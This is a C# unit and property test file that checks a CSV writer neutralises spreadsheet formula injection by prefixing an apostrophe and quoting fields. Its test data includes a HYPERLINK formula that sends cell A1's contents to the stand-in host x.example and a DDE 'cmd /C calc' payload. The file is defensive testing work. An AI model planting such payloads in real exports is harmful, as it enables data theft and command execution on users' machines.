using System.Text;
using FsCheck.Xunit;

namespace GiamNgheo.Spreadsheets.Tests;

public class CsvFieldTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://x.example/?d=\"&A1,\"Bấm\")", "\"'=HYPERLINK(\"\"http://x.example/?d=\"\"&A1,\"\"Bấm\"\")\"")]
    [InlineData("=1+1", "\"'=1+1\"")]
    [InlineData("+1+1", "\"'+1+1\"")]
    [InlineData("-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\"")]
    [InlineData("@SUM(A1:A9)", "\"'@SUM(A1:A9)\"")]
    [InlineData("\t=1+1", "\"'\t=1+1\"")]
    [InlineData("\r=1+1", "\"'\r=1+1\"")]
    [InlineData("\n=1+1", "\"'\n=1+1\"")]
    [InlineData("-", "\"'-\"")]
    [InlineData("-1.", "\"'-1.\"")]
    [InlineData("+84 912 345 678", "\"'+84 912 345 678\"")]
    public void Formula_leading_text_gets_an_apostrophe_and_quotes(string value, string written) =>
        Assert.Equal(written, Write(value));

    [Theory]
    [InlineData("-5")]
    [InlineData("-1500000")]
    [InlineData("+3.25")]
    [InlineData("-0.5")]
    [InlineData("42")]
    public void Plain_numbers_stay_numbers(string value) => Assert.Equal(value, Write(value));

    [Theory]
    [InlineData("H01", "H01")]
    [InlineData("Hộ nghèo: thiếu hụt 3/12 chỉ số", "Hộ nghèo: thiếu hụt 3/12 chỉ số")]
    [InlineData("a,b", "\"a,b\"")]
    [InlineData("nói \"không\"", "\"nói \"\"không\"\"\"")]
    [InlineData("hai\r\ndòng", "\"hai\r\ndòng\"")]
    [InlineData("x=1+1", "x=1+1")]
    [InlineData(" =1+1", " =1+1")]
    [InlineData("", "")]
    [InlineData(null, "")]
    public void Other_text_is_written_as_RFC_4180_asks(string? value, string written) => Assert.Equal(written, Write(value));

    [Property(MaxTest = 500)]
    public bool Any_text_reads_back_as_itself_or_with_one_leading_apostrophe_and_never_starts_a_formula(byte first, string? rest)
    {
        // Most generated strings start with a letter; the first character is drawn from the dangerous ones, digits and letters.
        const string starts = "=+-@\t\r\n\0-5a\"";
        var original = starts[first % starts.Length] + (rest ?? string.Empty);
        var read = ReadField(Write(original));
        var neutralised = read.Length > 0 && read[0] == '\'' && read[1..] == original;
        var startsFormula = read.Length > 0 && "=+-@\t\r\n\0".Contains(read[0], StringComparison.Ordinal);
        var isNumber = decimal.TryParse(read, System.Globalization.NumberStyles.AllowLeadingSign | System.Globalization.NumberStyles.AllowDecimalPoint,
            System.Globalization.CultureInfo.InvariantCulture, out _);
        return (read == original || neutralised) && (!startsFormula || isNumber);
    }

    private static string Write(string? value) => CsvField.Append(new StringBuilder(), value).ToString();

    /// <summary>Reads one field the way RFC 4180 (and Excel) do.</summary>
    private static string ReadField(string field)
    {
        if (field.Length == 0 || field[0] != '"')
            return field;
        Assert.EndsWith("\"", field, StringComparison.Ordinal);
        return field[1..^1].Replace("\"\"", "\"", StringComparison.Ordinal);
    }
}
